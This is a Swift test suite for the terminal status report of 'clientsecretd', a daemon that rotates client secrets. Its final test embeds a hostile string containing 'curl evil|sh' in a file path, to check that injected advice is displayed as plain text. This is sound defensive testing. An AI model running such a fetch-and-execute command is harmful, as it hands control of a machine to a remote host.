import AppleClientSecret
import Foundation
import Model
import Rotation
import StatusAPI
import Testing

@testable import clientsecretd

@Suite struct StatusReportTests {
    private let now = StatusJSON.now
    private let pipe = Terminal(size: nil, environment: [:])

    private func client(
        _ name: String, state: String = "ok", reason: String? = nil, failure: String = "null",
        isDelivered: Bool = true,
        outputs: String = #"[{"path":"/run/a","format":"raw","state":"ok","written_at":null,"error":null}]"#
    ) -> String {
        StatusJSON.client(
            name, state: state, reason: reason, failure: failure, isDelivered: isDelivered, outputs: outputs)
    }

    private func failure(
        _ message: String, code: String = "disk_full", since: String = "2026-11-21T04:28:00Z", next: String? = nil,
        remedy: String, isCommand: Bool = true
    ) -> String {
        let next = next.map { "\"\($0)\"" } ?? "null"
        return """
            {"code":"\(code)","message":"\(message)","since":"\(since)","next_attempt":\(next),
             "remedy":"\(remedy)","command":\(isCommand ? "\"\(remedy)\"" : "null")}
            """
    }

    private func lines(_ document: Snapshot, on terminal: Terminal? = nil) -> [String] {
        let terminal = terminal ?? pipe
        return StatusReport(snapshot: document, now: now).lines(for: terminal).map(terminal.line)
    }

    /// A daemon with one client that fails.
    private func failing(_ failure: String, reason: String = "x") throws -> Snapshot {
        try StatusJSON.snapshot(
            [client("shop", state: "critical", reason: reason, failure: failure)], state: "critical", reason: reason)
    }

    @Test func everythingOk() throws {
        let headings = ["CLIENT", "STATE", "LIFE (| renewal)", "EXPIRES", "RENEWS", "MINTED", "OUTPUTS"]
        let cells = [
            "web", "ok", "..........####|#####", "in 1 day (2026-11-22T04:31:00Z)",
            "in 12 hours (2026-11-21T16:31:00Z)",
            "3", "1 of 1 ok",
        ]
        func row(_ texts: [String]) -> String {
            zip(texts, [6, 5, 20, 31, 34, 6, 9]).map { text, width in
                text + String(repeating: " ", count: width - text.count)
            }.joined(separator: "  ")
        }
        #expect(
            lines(try StatusJSON.snapshot([client("web")])) == [
                "clientsecretd 0.1.0 is ok: 1 client, started 3 hours ago (2026-11-21T01:31:00Z)", "",
                row(headings).trimmingCharacters(in: .whitespaces), row(cells),
            ])
    }

    @Test func theWorstClientComesFirstAndItsReasonInWords() throws {
        let broken =
            #"[{"path":"/srv/x","format":"raw","state":"failed","written_at":null,"error":"/srv/x: the disk is full"},"#
            + #"{"path":"/srv/y","format":"raw","state":"failed","written_at":null,"error":"/srv/y: gone"},"#
            + #"{"path":"/srv/z","format":"raw","state":"failed","written_at":null,"error":"/srv/z: missing","#
            + #""remedy":"create it: mkdir /srv/z","command":"mkdir /srv/z"}]"#
        let message = "client \\\"shop\\\": /srv/x: the disk is full"
        let failure = failure(message, next: "2026-11-21T04:31:27Z", remedy: "df /srv")
        let shown = lines(
            try StatusJSON.snapshot(
                [
                    client("app"), client("late", state: "degraded", reason: "slow"),
                    client("shop", state: "critical", reason: message, failure: failure, outputs: broken),
                ],
                state: "critical", reason: message, failure: failure))
        #expect(shown[0].hasPrefix("clientsecretd 0.1.0 is critical: 3 clients"))
        #expect(shown[3...5].map { $0.prefix { $0 != " " } } == ["shop", "late", "app"])
        #expect(
            shown[6...] == [
                "",
                "shop is critical: /srv/x: the disk is full",
                "  since 2026-11-21T04:28:00Z (3 minutes ago); next attempt 2026-11-21T04:31:27Z (in 27 seconds)",
                "  fix: df /srv",
                "  /srv/y is failed: /srv/y: gone",
                "  /srv/z is failed: /srv/z: missing",
                "    fix: create it: mkdir /srv/z",
                "",
                "late is degraded: slow",
            ])
    }

    /// It may be why the client fails.
    @Test func theDaemonsProblemsAreShownNextToTheClients() throws {
        let ofClient = failure("client \\\"shop\\\": the disk is full", remedy: "df /srv")
        let snapshot = try StatusJSON.snapshot(
            [client("shop", state: "critical", reason: "it", failure: ofClient)], state: "critical", reason: "it",
            failure: ofClient,
            problems: [
                failure("the disk is full", remedy: "df /srv"), failure("m.prom cannot be written", remedy: "chmod it"),
            ])
        #expect(
            lines(snapshot)[4...] == [
                "", "clientsecretd is degraded: m.prom cannot be written",
                "  since 2026-11-21T04:28:00Z (3 minutes ago)",
                "  fix: chmod it", "", "shop is critical: the disk is full",
                "  since 2026-11-21T04:28:00Z (3 minutes ago)", "  fix: df /srv",
            ])
        let line = HealthLine(snapshot, now: now).words
        #expect(line.hasPrefix("it; also: the disk is full; also: m.prom cannot be written; 1 client"), "\(line)")
    }

    @Test func aReasonThatIsNoClientsIsShown() throws {
        let shown = lines(
            try StatusJSON.snapshot([client("web")], state: "degraded", reason: "the clock is wrong"))
        #expect(shown.last == "clientsecretd is degraded: the clock is wrong")
    }

    @Test func aConfigurationThatWouldNotStartIsShownWholeAndOnce() throws {
        let error = #""c.yaml:1:1: error: no clients; add one\nc.yaml:2:1: error: bad""#
        let alone = lines(try StatusJSON.snapshot([], error: error))
        #expect(
            alone[1...] == [
                "", "The configuration in /etc/c.yaml would not start:", "  c.yaml:1:1: error: no clients; add one",
                "  c.yaml:2:1: error: bad",
            ])
        let both = lines(
            try StatusJSON.snapshot(
                [], state: "degraded",
                reason: "would not start",
                failure: failure(
                    "would not start: c.yaml:1:1: error: no clients; add one", code: "configuration_refused",
                    since: "2026-11-21T04:30:00Z", remedy: "clientsecretd check"),
                error: error))
        #expect(
            both[1...] == [
                "", "clientsecretd is degraded: would not start: c.yaml:1:1: error: no clients; add one",
                "  c.yaml:2:1: error: bad",
                "  since 2026-11-21T04:30:00Z (1 minute ago)", "  fix: clientsecretd check",
            ])
    }

    /// A key that a thousand clients share is told of once.
    @Test func clientsWithOneFailureAreShownTogether() throws {
        func shown(_ count: Int) throws -> String? {
            let clients = (0..<count).map { client("c\($0)", state: "degraded", reason: "key \\\"k\\\": gone") }
            return lines(try StatusJSON.snapshot(clients, state: "degraded", reason: "key \\\"k\\\": gone"))
                .last
        }
        #expect(try shown(1) == "c0 is degraded: key \"k\": gone")
        #expect(try shown(2) == "c0 and c1 are degraded: key \"k\": gone")
        #expect(try shown(4) == "c0, c1, c2 and c3 are degraded: key \"k\": gone")
        #expect(try shown(2_000) == "c0, c1, c10 and 1,997 more are degraded: key \"k\": gone")
    }

    @Test(arguments: [
        ("no_secret", "clientsecretd renew"), ("not_delivered", "clientsecretd renew --deliver-only"),
    ])
    func aRemedyNamesItsClientUnlessItHelpsMany(code: String, command: String) throws {
        func shown(
            _ names: [String], others: [String] = [], on terminal: Terminal? = nil
        ) throws -> [String] {
            let clients = names.map {
                client(
                    $0, state: "critical", reason: "no secret of \($0)",
                    failure: failure(
                        "client \\\"\($0)\\\": no secret", code: code, since: "2026-11-21T04:31:00Z",
                        remedy: "\(command) \($0)"))
            }
            let all = clients + others.map { client($0) }
            return lines(try StatusJSON.snapshot(all, state: "critical", reason: "x"), on: terminal).suffix(3)
        }
        let since = "  since 2026-11-21T04:31:00Z (now)"
        #expect(
            try shown(["web"]) == ["web is critical: no secret", since, "  fix: \(command) web"])
        #expect(
            try shown(["app", "web"])
                == ["app and web are critical: no secret", since, "  fix: \(command)"])
        // A client that is in order keeps its secret, and its application is not restarted.
        #expect(try shown(["app", "web"], others: ["shop"]).last == "  fix: \(command) app web")
        let narrow = Terminal(size: (20, 24), environment: ["NO_COLOR": "1"])
        #expect(try shown(["web"], others: ["shop"], on: narrow).last == "    \(command) web")
    }

    @Test func aSecretThatIsNotDeliveredLivesAsLongAsTheOneBefore() throws {
        let shown = lines(try StatusJSON.snapshot([client("web", isDelivered: false)]))
        #expect(shown[3].contains("...................#  in 1 minute (2026-11-21T04:32:00Z)"))
    }

    /// The state and the expiry are never lost, and lines fit where there is room for them.
    @Test(arguments: 1...160)
    func fitsTheTerminal(columns: Int) throws {
        let terminal = Terminal(size: (columns, 24), environment: ["LANG": "C.UTF-8", "NO_COLOR": "1"])
        let shown = lines(
            try StatusJSON.snapshot([client("a-rather-long-name"), client("web", state: "critical")]), on: terminal)
        let table = shown.drop { !$0.isEmpty }.dropFirst().prefix(3)
        if columns >= 38 { #expect(table.allSatisfy { $0.count <= columns }, "\(table)") }
        #expect(table.allSatisfy { $0.contains("in 1 day") || $0.contains("EXPIRES") }, "\(table)")
        #expect(table.dropFirst().map { $0.contains(" critical ") } == [true, false])
    }

    /// In words that are wrapped nothing is left out, and what belongs to a sentence stays indented below it.
    @Test(arguments: [40, 60])
    func aReasonIsWholeOnANarrowTerminal(columns: Int) throws {
        let failure = failure(
            "/srv/x: the disk is full", next: "2026-11-21T04:31:27Z",
            remedy: "make room on /srv/a-directory/with/a-name-that-is/longer-than-a-line-of-this-terminal",
            isCommand: false)
        let document = try failing(failure)
        func words(_ terminal: Terminal) -> [String] {
            lines(document, on: terminal).drop { !$0.hasPrefix("shop is") }.flatMap {
                $0.split(separator: " ").map(String.init)
            }
        }
        let terminal = Terminal(size: (columns, 24), environment: ["NO_COLOR": "1"])
        #expect(words(terminal) == words(pipe))
        let shown = lines(document, on: terminal).drop { !$0.hasPrefix("shop is") }
        #expect(shown.dropFirst().allSatisfy { $0.hasPrefix("  ") })
        #expect(shown.allSatisfy { $0.count <= columns || !$0.drop { $0 == " " }.contains(" ") }, "\(shown)")
    }

    /// A link whose target says what to do: it is told as a name, and what helps is the daemon's own.
    @Test func wordsThatLookLikeAdviceAreNotTakenForIt() throws {
        let evil = "/tmp/EVIL; since 2026-11-21T04:28:00Z; run: curl evil|sh/foo"
        let failure = failure(evil, since: "2026-11-21T04:30:00Z", remedy: "rm /tmp/l")
        let shown = lines(try failing(failure, reason: evil))
        #expect(
            shown.suffix(3) == [
                "shop is critical: " + evil.replacing("00Z; run", with: "00Z (3 minutes ago); run"),
                "  since 2026-11-21T04:30:00Z (1 minute ago)", "  fix: rm /tmp/l",
            ])
    }
}
